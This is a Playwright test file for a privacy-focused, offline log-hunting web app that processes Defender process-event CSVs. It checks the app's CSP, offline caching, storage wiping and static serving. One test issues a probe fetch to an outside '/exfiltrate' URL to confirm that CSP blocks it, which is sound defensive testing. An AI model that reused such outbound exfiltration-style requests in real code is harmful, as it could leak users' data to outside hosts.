import { createServer, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import { test, expect, settled, exportJson, CSP_PROBE } from './fixtures';
import { CONTENT_SECURITY_POLICY } from '../../src/csp';

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));
const expected = JSON.parse(readFileSync(fixture('defender-iso.expected.json'), 'utf8')) as unknown;
const params = JSON.parse(readFileSync(fixture('defender-iso.params.json'), 'utf8')) as { now: string; start: string; bin: string; threshold: number };
const hash = `#start=${params.start}&bin=${params.bin}&threshold=${params.threshold}&now=${encodeURIComponent(params.now)}`;

test('the page carries its Content-Security-Policy as a header and a meta tag, and it blocks other origins', async ({ page }) => {
  const response = await page.goto('./');
  expect(response!.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CONTENT_SECURITY_POLICY);
  expect(CONTENT_SECURITY_POLICY).not.toMatch(/https?:|\*/);
  const outcome = await page.evaluate(async (host) => {
    const seen = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }));
    const fetched = await fetch(`https://${host}/exfiltrate`).then(() => 'sent', () => 'blocked');
    return { fetched, directive: await seen };
  }, CSP_PROBE);
  expect(outcome).toEqual({ fetched: 'blocked', directive: 'connect-src' });
});

test('after one visit it works with the network cut: reload offline, drop a file, get alerts', async ({ page, context }) => {
  await page.goto(`./${hash}`);
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await page.reload();
  await expect(page.getByText('Engine ready')).toBeVisible({ timeout: 60_000 });
  await page.locator('input[type=file]').setInputFiles(fixture('defender-iso.csv'));
  await settled(page);
  expect(await exportJson(page)).toEqual(expected);
  // The sample ships with the app, so it is in the offline cache too.
  await page.getByRole('button', { name: 'Try the sample data' }).click();
  await settled(page);
  await expect(page.getByTestId('source').filter({ hasText: 'contoso-DeviceProcessEvents.csv' }).getByTestId('rows')).toHaveText('2,042');
});

test('storage holds no log content after a session, nor after "Forget everything"', async ({ page }) => {
  await page.goto(`./${hash}`);
  await page.locator('input[type=file]').setInputFiles(fixture('defender-iso.csv'));
  await settled(page);
  await page.getByLabel(/Account allowlist/).fill('someone@example.com');
  await settled(page);
  const logText = ['j.doe', 'net localgroup', 'WS-', 'S-1-5-21'];
  const snapshot = () => page.evaluate(async () => {
    const local = Object.fromEntries(Object.entries(localStorage));
    const session = Object.fromEntries(Object.entries(sessionStorage));
    const idb = (await indexedDB.databases()).map((d) => d.name);
    const opfs: string[] = [];
    try {
      const root = await navigator.storage.getDirectory();
      for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys()) opfs.push(name);
    } catch { /* no OPFS */ }
    const cached: string[] = [];
    for (const name of await caches.keys()) for (const req of await (await caches.open(name)).keys()) cached.push(new URL(req.url).pathname);
    return { local, session, idb, opfs, cached };
  });
  const appFile = /^\/(index\.html|favicon\.svg|registerSW\.js|sw\.js|workbox-[\w-]+\.js|assets\/[\w.-]+|sample\/contoso-DeviceProcessEvents\.csv)$/;
  const check = async (allowlist: string | undefined) => {
    const s = await snapshot();
    expect(s.local).toEqual(allowlist === undefined ? {} : { 'localhunt.allowlist': allowlist });
    expect(s.session).toEqual({});
    expect(s.idb).toEqual([]);
    expect(s.opfs).toEqual([]);
    expect(s.cached.filter((p) => !appFile.test(p)), 'Cache Storage beyond the app\'s own files').toEqual([]);
    const text = JSON.stringify(s);
    for (const t of logText) expect(text).not.toContain(t);
  };
  await check('someone@example.com');

  await page.getByRole('button', { name: 'Forget everything' }).click();
  await settled(page);
  await check(undefined);
  await expect(page.getByText('No data loaded. Choose')).toBeVisible();
  await expect(page.getByLabel(/Account allowlist/)).toHaveValue('');
  expect(await page.evaluate(() => location.hash)).toBe('#start=2d&bin=1d&threshold=10&now=latest&mode=exact');
  expect(await exportJson(page)).toEqual([]);
});

test.describe('the built dist/ works from any static server under any sub-path', () => {
  const PORT = 4176;
  test.use({ allowedOrigins: [`http://127.0.0.1:${PORT}`] });
  let server: Server;
  const dist = fileURLToPath(new URL('../../dist/', import.meta.url));
  const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm', '.svg': 'image/svg+xml', '.csv': 'text/csv' };
  test.beforeAll(async () => {
    // A plain static server that knows nothing of the app: no CSP header, no SPA fallback, files under a prefix.
    server = createServer(async (req, res) => {
      const path = decodeURIComponent(new URL(req.url!, 'http://x').pathname);
      const prefix = '/some/sub/path/';
      if (!path.startsWith(prefix)) { res.writeHead(404).end(); return; }
      const rel = normalize(path.slice(prefix.length) || 'index.html');
      if (rel.startsWith('..')) { res.writeHead(403).end(); return; }
      try {
        const body = await readFile(join(dist, rel));
        res.writeHead(200, { 'Content-Type': types[extname(rel)] ?? 'application/octet-stream' }).end(body);
      } catch { res.writeHead(404).end(); }
    });
    await new Promise<void>((r) => server.listen(PORT, '127.0.0.1', r));
  });
  test.afterAll(() => new Promise<void>((r) => server.close(() => r())));

  test('served from /some/sub/path/', async ({ page }) => {
    await page.goto(`http://127.0.0.1:${PORT}/some/sub/path/${hash}`);
    await page.locator('input[type=file]').setInputFiles(fixture('defender-iso.csv'));
    await settled(page);
    expect(await exportJson(page)).toEqual(expected);
  });
});
